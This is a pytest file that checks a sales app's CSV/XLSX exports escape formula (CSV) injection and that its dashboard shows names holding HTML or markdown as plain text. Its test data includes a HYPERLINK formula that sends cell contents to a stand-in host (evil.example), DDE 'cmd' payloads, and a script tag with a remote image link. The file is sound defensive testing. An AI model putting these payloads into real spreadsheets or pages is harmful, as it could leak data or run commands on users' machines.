"""Exports escape spreadsheet formulas, and names with markdown/HTML are shown as text
(issue 10, "Exports ... escape cells beginning with = + - @ (CSV injection); names with
markdown/HTML are shown as text everywhere").

Every CSV/XLSX writer in salescore is exercised through its public function with hostile
names (=HYPERLINK, +cmd, -2+3, @SUM) coming from the database or the input, and every cell
of the result is checked: no formula is stored, and no text cell starts with = + - @ unless
it is a plain number like -12.5.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pandas as pd
import pytest
import streamlit as st
from python_calamine import CalamineWorkbook
from streamlit.testing.v1 import AppTest

from salescore import audit, customers, db, goals, incentives, ingest, team
from salescore.ingest.export import TEMPLATES

HOSTILE = {
    "R01": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "R02": "+cmd|' /C calc'!A0",
    "R03": "-2+3+cmd|' /C calc'!A0",
    "R04": "@SUM(1+1)*cmd|' /C calc'!A0",
}
STARTS = ("=", "+", "-", "@")
_PLAIN_NUMBER = re.compile(r"^[-+]?\d+(\.\d+)?$")


def check_text(cell: str, where: str) -> None:
    assert not (cell.startswith(STARTS) and not _PLAIN_NUMBER.match(cell.strip())), \
        f"{where}: unescaped formula text {cell!r}"


def xlsx_cells(data: bytes, where: str) -> list[str]:
    """Every text cell of every sheet; fails on any stored formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"{where}: formula in {name}"
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    texts = []
    for sheet in book.sheet_names:
        for row in book.get_sheet_by_name(sheet).to_python():
            for cell in row:
                if isinstance(cell, str):
                    check_text(cell, f"{where} / {sheet}")
                    texts.append(cell)
    return texts


def csv_cells(data: bytes, where: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            check_text(cell, where)
    return [c for r in rows for c in r]


def escaped(texts: list[str], name: str) -> bool:
    """The hostile ``name`` appears, escaped with a leading apostrophe."""
    return any(t == "'" + name or t.startswith("'" + name) or ("'" + name) in t for t in texts)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory, demo_copy):
    """The demo with reps R01-R04 renamed to formula text, R01's team too, a customer, a loss
    reason and a SWOT note: the data every export reads."""
    path = tmp_path_factory.mktemp("exports") / "hostile.duckdb"
    con = db.connect(demo_copy(path, "zh"))
    with db.transaction(con) as cur:
        for rep_id, name in HOSTILE.items():
            cur.execute("update reps set name = $n where rep_id = $r", {"n": name, "r": rep_id})
        cur.execute("update customers set name = '=1+1' where customer_id = "
                    "(select min(customer_id) from customers)")
    yield con
    con.close()


# --- each export function ---------------------------------------------------------------------

def test_customers_export_bytes_csv_and_xlsx():
    frame = pd.DataFrame({"=客户": list(HOSTILE.values()) + ["-12.5", "普通"],
                          "amount": [1.0, -2.0, 3.0, 4.0, 5.0, 6.0],
                          "day": [date(2026, 1, i) for i in range(1, 7)]})
    for kind, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
        texts = read(customers.export_bytes(frame, kind), f"customers.export_bytes {kind}")
        for name in HOSTILE.values():
            assert escaped(texts, name), (kind, name)


def test_goals_export_xlsx(hostile_db):
    texts = xlsx_cells(goals.export_xlsx(hostile_db, "zh"), "goals.export_xlsx")
    for name in HOSTILE.values():
        assert escaped(texts, name), name


def test_incentive_statements(hostile_db):
    plan = incentives.template("standard")
    # labels come from the i18n catalogue (never user text); "statement" names the sheet
    labels = (("statement", "Statement"), ("quota", "Quota"), ("total", "Total"))
    for rep_id, name in HOSTILE.items():
        data = incentives.statement_file(hostile_db, plan, "2026-Q3", rep_id, labels)
        texts = xlsx_cells(data, f"incentives.statement_file {rep_id}")
        assert any(name in t for t in texts)
    archive = incentives.statements_archive(hostile_db, plan, "2026-Q3", incentives.Scope(), labels)
    with zipfile.ZipFile(io.BytesIO(archive)) as z:
        assert all(any(f"_{r}_" in m for m in z.namelist()) for r in HOSTILE)
        assert all("/" not in m and "\\" not in m for m in z.namelist())
        for member in z.namelist():
            xlsx_cells(z.read(member), f"incentives.statements_archive {member}")


def test_team_swot_xlsx():
    content = pd.DataFrame({"quadrant": ["S", "W", "O", "T"],
                            "text": list(HOSTILE.values()),
                            "origin": ["manual", "auto", "manual", "auto"]})
    texts = xlsx_cells(team.swot_xlsx(content, "zh", "=SWOT " + HOSTILE["R01"]), "team.swot_xlsx")
    assert escaped(texts, "=SWOT")
    for name in HOSTILE.values():
        assert escaped(texts, name) or any(("• " + name) in t for t in texts), name


def test_ingest_rejected_xlsx():
    """Rejected rows are written back as the user had them: hostile headers and cells too."""
    data = ("商机编号,销售员,金额,阶段,成交日期,=备注\n"
            f"X-1,\"{HOSTILE['R01'].replace(chr(34), chr(34) * 2)}\",=1+1,赢单,2026-01-01,@x\n"
            f"X-2,{HOSTILE['R02']},-1+1,赢单,2026-01-02,+y\n"
            "X-3,张三,100,赢单,2026-01-03,-z\n").encode()
    prepared = ingest.prepare(data, "bad.csv")
    assert prepared.rows_rejected == 2
    for lang in ("zh", "en"):
        texts = xlsx_cells(ingest.rejected_xlsx(prepared, lang), f"rejected_xlsx {lang}")
        assert escaped(texts, HOSTILE["R01"]) and escaped(texts, "=1+1") and escaped(texts, "@x")


@pytest.mark.parametrize("kind", sorted(TEMPLATES))
def test_ingest_templates(kind):
    for lang in ("zh", "en"):
        xlsx_cells(ingest.template_xlsx(kind, lang), f"template_xlsx {kind} {lang}")


def test_audit_export_csv(con):
    with db.transaction(con) as cur:
        for name in HOSTILE.values():
            audit.record(cur, "import", {"file": name}, user=name)
    texts = csv_cells(audit.export_csv(con), "audit.export_csv")
    for name in HOSTILE.values():
        assert escaped(texts, name)


def test_every_writer_is_covered():
    """Every CSV/XLSX salescore writes goes through salescore.xlsx (issue 15): no other module
    opens a writer of its own, so the escaping tested above covers them all."""
    from pathlib import Path
    root = Path(__file__).resolve().parents[1] / "salescore"
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if re.search(r"xlsxwriter\.Workbook\(|csv\.writer\(|\.to_csv\(|ExcelWriter\(",
                                  p.read_text(encoding="utf-8")))
    assert writers == ["xlsx.py"]


# --- names with markdown / HTML on the Overview ------------------------------------------------

MARKUP = "<script>alert(1)</script> **bold** ![x](http://evil.example/t.png)"


@pytest.fixture(scope="module")
def markup_db(tmp_path_factory, demo_copy):
    """The demo with the star rep (R01, top of the leaderboard and the star alert) and the
    struggling rep (R13) named with HTML and markdown."""
    path = tmp_path_factory.mktemp("markup") / "markup.duckdb"
    con = db.connect(demo_copy(path, "en"))
    with db.transaction(con) as cur:
        cur.execute("update reps set name = $n where rep_id = 'R01'", {"n": MARKUP})
        cur.execute("update reps set name = $n where rep_id = 'R13'", {"n": MARKUP + " 2"})
    con.close()
    return path


@pytest.fixture
def overview(markup_db, monkeypatch):
    monkeypatch.setenv("SALESCORE_DB", str(markup_db))
    st.cache_data.clear()
    st.cache_resource.clear()
    at = AppTest.from_file("../app.py", default_timeout=60)
    at.session_state["lang"] = "en"
    at.run()
    yield at
    st.cache_resource.clear()


MARKDOWN_ELEMENTS = ("markdown", "caption", "info", "warning", "success", "error", "title",
                     "header", "subheader", "toast", "exception")


def rendered_markdown(at) -> list[tuple[str, str, bool]]:
    """(element type, body, allows html) of every element whose body Streamlit renders as
    markdown."""
    out = []
    for kind in MARKDOWN_ELEMENTS:
        for el in getattr(at, kind, []):
            body = str(getattr(el, "value", "") or getattr(el, "body", ""))
            allow = bool(getattr(getattr(el, "proto", None), "allow_html", False))
            out.append((kind, body, allow))
    for m in at.metric:
        out.append(("metric label", str(m.label), False))
    return out


def test_overview_leaderboard_shows_the_name_as_text(overview):
    assert not overview.exception
    board = overview.dataframe[0].value
    assert MARKUP in board["rep"].tolist()            # a dataframe cell: plain text


def test_overview_never_renders_markup_from_names(overview):
    """No markdown element carries the name's markdown/HTML as live markup. Streamlit escapes
    HTML unless unsafe_allow_html, but interprets markdown (**bold**, ![image](url) which the
    browser would fetch), so a name may only reach st.markdown/caption/alerts escaped."""
    assert not overview.exception
    live = [(kind, body) for kind, body, allow in rendered_markdown(overview)
            if "**bold**" in body or "![x](" in body or ("<script>" in body and allow)]
    assert live == []
